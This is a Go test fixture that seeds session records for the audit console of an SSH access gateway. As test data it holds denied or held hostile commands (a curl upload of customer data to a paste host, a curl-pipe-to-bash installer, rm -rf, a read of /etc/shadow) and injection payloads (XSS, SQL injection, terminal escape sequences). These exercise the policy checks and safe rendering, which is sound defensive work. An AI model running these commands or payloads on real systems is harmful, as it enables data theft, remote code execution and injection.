package console

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sallyport-ssh/sallyport/policies"
	"github.com/sallyport-ssh/sallyport/replay/cast"
	"github.com/sallyport-ssh/sallyport/replay/ledger"
	"github.com/sallyport-ssh/sallyport/replay/reel"
)

// A story is one session of the seeded ledger.
type story struct {
	id, who, target, kind, login, command string
	ago, lasted                           time.Duration // lasted 0: still running
	exit                                  int
	state                                 ledger.State // of the end; default complete
	guard                                 string
	masked                                int64
	ops                                   []ledger.Operation // Offset, Action, Text, Decision, Policy, HoldID, Outcome
	lines                                 []script
	pty                                   bool
}

func op(at time.Duration, decision, text, policy string) ledger.Operation {
	return ledger.Operation{Offset: at, Decision: decision, Text: text, Action: "command:run", Policy: policy}
}

// play stores a story: its session, operations and recording.
func (f *fixture) play(s story) {
	f.t.Helper()
	now := f.console.now()
	started := now.Add(-s.ago)
	row := ledger.Session{
		ID: s.id, ConnectionID: "c" + s.id[:12], Gate: "gate-1", Identity: f.identity(s.who), Target: s.target, TargetKind: "ssh",
		Login: s.login, Kind: s.kind, Command: s.command, ClientAddr: "198.51.100.23:50412", Guard: s.guard, Started: started,
	}
	if strings.HasPrefix(s.target, "demo") {
		row.TargetKind = "shell"
	}
	if p := f.principal(s.who); p.OnBehalfOf != nil {
		by := f.identity(p.OnBehalfOf.Name)
		row.OnBehalfOf = &by
	}
	h := cast.Header{Cols: 100, Rows: 28, Timestamp: started}
	if s.pty {
		row.Term, row.Cols, row.Rows, h.Type = "xterm-256color", 100, 28, "xterm-256color"
	}
	if err := f.ledger.StartSession(f.t.Context(), row); err != nil {
		f.t.Fatal(err)
	}
	for i, o := range s.ops {
		o.ID, o.SessionID, o.Sequence, o.Time = fmt.Sprintf("op%s%03d", s.id, i), s.id, int64(i+1), started.Add(o.Offset)
		if err := f.ledger.AddOperation(f.t.Context(), o); err != nil {
			f.t.Fatal(err)
		}
	}
	lines := slices.Clone(s.lines)
	for _, o := range s.ops { // a gate marks every operation in the recording
		if o.Offset > 0 {
			lines = append(lines, script{o.Offset, "marker:" + o.Text})
		}
	}
	slices.SortStableFunc(lines, func(a, b script) int { return int(a.at - b.at) })
	if s.masked > 0 {
		lines = append(lines, script{lines[len(lines)-1].at, fmt.Sprintf("masked:%d", s.masked)})
	}
	data := record(f.t, s.id, h, started, lines, s.lasted > 0 && s.state != ledger.Truncated)
	f.shelf.put(s.id, data, s.lasted == 0)
	if s.lasted == 0 {
		return
	}
	if s.state == "" {
		s.state = ledger.Complete
	}
	end := ledger.End{Ended: started.Add(s.lasted), State: s.state, ExitStatus: &s.exit, Reason: "exit", BytesOut: int64(len(data)), Masked: s.masked, SealHash: make([]byte, 32)}
	copy(end.SealHash, s.id)
	if s.state != ledger.Complete {
		end.ExitStatus, end.Reason = nil, "the gate was restarted"
	}
	if err := f.ledger.EndSession(f.t.Context(), s.id, end); err != nil {
		f.t.Fatal(err)
	}
	f.index(s.id, started, data)
}

// index makes what a session showed searchable, as a gate does.
func (f *fixture) index(id string, started time.Time, data []byte) {
	f.t.Helper()
	whole, err := reel.Text(bytes.NewReader(data), 1<<20, func(lines []reel.Line) error {
		var add []ledger.ShownLine
		for _, l := range lines {
			add = append(add, ledger.ShownLine{Offset: l.At, Text: l.Text})
		}
		return f.ledger.AddShown(f.t.Context(), id, started, add)
	})
	if err == nil {
		err = f.ledger.EndShown(f.t.Context(), id, map[bool]ledger.ShownState{true: ledger.ShownAll, false: ledger.ShownPartly}[whole])
	}
	if err != nil {
		f.t.Fatal(err)
	}
}

const prompt = "\x1b[32mada@web1\x1b[0m:\x1b[34m/srv/shop\x1b[0m$ "

// typed is a command as it appears on a terminal: prompt, keystrokes, output.
func typed(at time.Duration, command, output string) []script {
	all := []script{{at, prompt}}
	for i, r := range command {
		at += 60*time.Millisecond + time.Duration(i%3)*30*time.Millisecond
		all = append(all, script{at, string(r)})
	}
	return append(all, script{at + 200*time.Millisecond, "\r\n" + strings.ReplaceAll(output, "\n", "\r\n")})
}

func join(parts ...[]script) (all []script) {
	for _, p := range parts {
		all = append(all, p...)
	}
	return all
}

const customers = `id    name               email                  card                 iban
1001  Ines Albrecht      i***@***********.com   4539 58** **** 6411  DE12 **** **** **** **** 34
1002  Noor van Dijk      n***@********.nl       5204 73** **** 0092  NL55 **** **** **** 71
1003  Tomasz Zieliński   t***@******.pl         4916 02** **** 1847  PL61 **** **** **** **** **** 74
1004  Yuki Tanaka        y***@*******.jp        3530 11** **** 0505  -
`

const status = ` M config/payments.yaml
 M internal/checkout/total.go
?? notes.txt
`

// hostileOutput tries everything that a recorded program might try on the auditor's machine.
const hostileOutput = "\x1b]0;<script>document.title='owned'</script>\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;javascript:alert(1)\x1b\\click me\x1b]8;;\x1b\\\r\n" +
	"\x1b[c\x1b[6n\x1b[>c\x1bP$qm\x1b\\\x1b[8;9999;9999t\u009b31m C1 \u0090\r\n<script>window.owned=1</script><img src=x onerror=window.owned=1>\r\n" +
	"\x1b[99999999b\x1b[1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;17;18;19;20;21;22;23;24;25;26;27;28;29;30;31;32;33;34;35mdeep\x1b[0m\r\nstill readable\r\n"

// stories are what the seeded ledger tells, oldest last.
func stories() []story {
	shell := story{
		id: "20261124s00ada00001a", who: "ada", target: "web1", kind: "shell", login: "deploy", ago: 47 * time.Minute, lasted: 4*time.Minute + 9*time.Second, guard: "hook", masked: 14, pty: true,
		ops: []ledger.Operation{
			{Offset: 0, Decision: "allow", Text: "shell on web1 as deploy", Action: "session:open", Policy: "session-open"},
			op(3200*time.Millisecond, "allow", "git status --short", "command-read"),
			op(12*time.Second, "allow", "head -4 customers.tsv", "command-read"),
			op(31*time.Second, "deny", "curl -s https://paste.example.net/up --data-binary @customers.tsv", "no-upload (prod.cedar:12:1)"),
			op(72*time.Second, "hold", "systemctl restart checkout", "command-privilege"),
			op(232*time.Second, "allow", "systemctl is-active checkout", "command-read"),
		},
		lines: join(
			typed(1500*time.Millisecond, "git status --short", status),
			typed(8*time.Second, "head -4 customers.tsv", customers),
			typed(25*time.Second, "curl -s https://paste.example.net/up --data-binary @customers.tsv", "\x1b[31mgate: denied by policy no-upload: customer data does not leave this host\x1b[0m\n"),
			typed(66*time.Second, "systemctl restart checkout", "\x1b[33mgate: held for approvers (request k7m2w9qx), waiting up to 10 min\x1b[0m\n"),
			[]script{{205 * time.Second, "gate: approved by grace\r\n"}, {208 * time.Second, "resize:120x34"}},
			typed(226*time.Second, "systemctl is-active checkout", "active\n"),
			typed(245*time.Second, "exit", "logout\n"),
		),
	}
	shell.ops[4].HoldID, shell.ops[4].Outcome = "k7m2w9qx", "approved by grace; exit status 0"
	live := story{
		id: "20261124s00bot00002b", who: "deploy-bot", target: "demo", kind: "shell", ago: 92 * time.Second, guard: "hook", pty: true,
		ops: []ledger.Operation{
			{Offset: 0, Decision: "allow", Text: "shell on demo", Action: "session:open", Policy: "session-open"},
			op(2400*time.Millisecond, "allow", "git status --short", "command-read"),
			op(20*time.Second, "allow", "head -4 customers.tsv", "command-read"),
		},
		lines: join(typed(time.Second, "git status --short", status), typed(17*time.Second, "head -4 customers.tsv", customers), []script{{30 * time.Second, prompt}}),
	}
	all := []story{
		live,
		{id: "20261124s00gra00003c", who: "grace", target: "db1", kind: "exec", login: "postgres", command: "pg_dump --schema-only shop | less", ago: 40 * time.Second, guard: "n/a",
			ops:   []ledger.Operation{op(0, "allow", "pg_dump --schema-only shop | less", "command-read")},
			lines: []script{{time.Second, "--\r\n-- PostgreSQL database dump\r\n--\r\n"}}},
		{id: "20261124s00bot00004d", who: "deploy-bot", target: "web1", kind: "exec", login: "deploy", command: "rm -rf /srv/demo/old", ago: 6 * time.Minute, lasted: 74 * time.Second, exit: 77, guard: "n/a",
			ops:   []ledger.Operation{op(0, "deny", "rm -rf /srv/demo/old", "command-destructive")},
			lines: []script{{time.Second, "gate: denied by grace: not before the backup has run\r\n"}}},
		shell,
		{id: "20261124s00mal00005e", who: "mallory", target: "demo", kind: "exec", command: "<script>window.owned=1</script> '; DROP TABLE sessions; --", ago: 2 * time.Hour, lasted: 3 * time.Second, exit: 127, guard: "n/a",
			ops:   []ledger.Operation{op(0, "deny", "<img src=x onerror=window.owned=1> \u202egnp.exe", "users-only")},
			lines: []script{{time.Second, hostileOutput}, {2 * time.Second, "marker:<script>window.owned=1</script>"}, {2 * time.Second, "resize:9999x9999"}, {2100 * time.Millisecond, "resize:80x24"}, {2500 * time.Millisecond, "typed:<script>window.owned=2</script>\x1b]0;owned\x07\u202e\x7f\r"}, {3 * time.Second, "the end\r\n"}}},
		{id: "20261124s00ada00006f", who: "ada", target: "demo", kind: "exec", command: "cat customers.csv", ago: 3*time.Hour + 20*time.Minute, lasted: 740 * time.Millisecond, guard: "n/a", masked: 212,
			ops: []ledger.Operation{op(0, "allow", "cat customers.csv", "command-read")}, lines: []script{{300 * time.Millisecond, strings.ReplaceAll(customers, "\n", "\r\n")}}},
		{id: "20261124s00bot00007g", who: "deploy-bot", target: "web2", kind: "exec", login: "deploy", command: "bash -c \"$(curl -fsSL https://get.example.org/agent.sh)\"", ago: 5 * time.Hour, lasted: 11 * time.Minute, exit: 75, guard: "n/a",
			ops: []ledger.Operation{op(0, "hold", "bash -c \"$(curl -fsSL https://get.example.org/agent.sh)\"", "command-opaque-agent")}, lines: []script{{time.Second, "gate: nobody answered in time\r\n"}}},
		{id: "20261124s00gra00008h", who: "grace", target: "db1", kind: "shell", login: "postgres", ago: 8 * time.Hour, lasted: 26 * time.Minute, state: ledger.Recovered, guard: "screen", pty: true, masked: 3,
			ops: []ledger.Operation{op(4*time.Second, "allow", "psql shop", "command-read")}, lines: join(typed(time.Second, "psql shop", "psql (17.2)\nType \"help\" for help.\n\nshop=> "), []script{{3900 * time.Millisecond, "typed:psqq\x7fl shop\r"}})},
		{id: "20261124s00lin0000bm", who: "linus", target: "payments-reconciliation-worker-7f9c6d5b8-x2x4k.eu-central-1.internal", kind: "exec", login: "svc-payments-reconciliation-batch", command: "env RECONCILE_FROM=2026-11-01T00:00:00Z RECONCILE_UNTIL=2026-11-24T00:00:00Z /opt/payments/bin/reconcile --ledger postgres://db1.internal/shop --counterparties ALBRECHT,ZIELINSKI,TANAKA --tolerance 0.005 --output /var/lib/payments/reconcile/2026-11/report-with-a-very-long-name-that-nobody-shortened.csv",
			ago: 10 * time.Hour, lasted: 2*time.Hour + 13*time.Minute, guard: "n/a", masked: 48213,
			ops:   []ledger.Operation{op(0, "hold", "env RECONCILE_FROM=2026-11-01T00:00:00Z RECONCILE_UNTIL=2026-11-24T00:00:00Z /opt/payments/bin/reconcile --ledger postgres://db1.internal/shop --counterparties ALBRECHT,ZIELINSKI,TANAKA", "payments-need-two-people-from-the-finance-operations-group (prod/payments.cedar:118:3)")},
			lines: []script{{time.Second, "reconciled 48213 postings\r\n"}, {time.Hour, "tolerance exceeded in 3 of them\r\n"}}},
		{id: "20261124s00ada00009j", who: "ada", target: "web2", kind: "subsystem", login: "deploy", command: "sftp", ago: 11 * time.Hour, lasted: 48 * time.Second, guard: "n/a",
			ops:   []ledger.Operation{{Offset: time.Second, Decision: "allow", Text: "/srv/shop/static/app.css", Action: "file:write", Policy: "file-write"}, {Offset: 2 * time.Second, Decision: "deny", Text: "/etc/shadow", Action: "file:read", Policy: "no-secrets (prod.cedar:31:1)"}},
			lines: []script{{time.Second, "put app.css (18.2 kB)\r\n"}}},
		{id: "20261124s00bot0000ak", who: "deploy-bot", target: "web1", kind: "shell", login: "deploy", ago: 17 * time.Hour, lasted: 3 * time.Hour, state: ledger.Truncated, guard: "hook", pty: true,
			ops: []ledger.Operation{op(2*time.Second, "allow", "tail -f /var/log/nginx/access.log", "command-read")}, lines: typed(time.Second, "tail -f /var/log/nginx/access.log", "203.0.113.9 - - \"GET / HTTP/2.0\" 200\n")},
	}
	for i := range 52 { // enough for a second page and a plot
		who := []string{"ada", "deploy-bot", "grace", "deploy-bot"}[i%4]
		target := []string{"web1", "web2", "db1", "demo"}[(i/2)%4]
		cmd := []string{"uptime", "df -h /srv", "journalctl -u checkout --since -10min", "git pull --ff-only", "systemctl status checkout"}[i%5]
		all = append(all, story{
			id: fmt.Sprintf("20261123s00bulk%05d", i), who: who, target: target, kind: "exec", login: "deploy", command: cmd, guard: "n/a",
			ago: time.Duration(i*i)*31*time.Second + 25*time.Minute, lasted: time.Duration(i+1) * 190 * time.Millisecond, exit: i % 9 / 8,
			ops: []ledger.Operation{op(0, []string{"allow", "allow", "allow", "hold", "allow", "allow", "deny"}[i%7], cmd, []string{"command-read", "command-read", "command-read", "command-opaque-agent", "command-read", "command-read", "night-freeze"}[i%7])}, lines: []script{{100 * time.Millisecond, "ok\r\n"}},
		})
	}
	return all
}

func (f *fixture) seed() {
	f.t.Helper()
	for _, s := range stories() {
		f.play(s)
	}
}

// TestSeed keeps the seeded data honest: every story is stored as it is told.
func TestSeed(t *testing.T) {
	f := newFixture(t)
	f.seed()
	all := stories()
	for _, s := range all[:10] {
		got, err := f.ledger.Session(t.Context(), s.id)
		if err != nil {
			t.Fatal(err)
		}
		if got.Operations != int64(len(s.ops)) || got.Command != s.command {
			t.Errorf("%s: %d operations of %q, want %d of %q", s.id, got.Operations, got.Command, len(s.ops), s.command)
		}
	}
	if h, err := f.ledger.Holds(t.Context(), policies.HoldFilter{}); err != nil || len(h) != 0 {
		t.Errorf("holds %v %v, want none", h, err)
	}
}
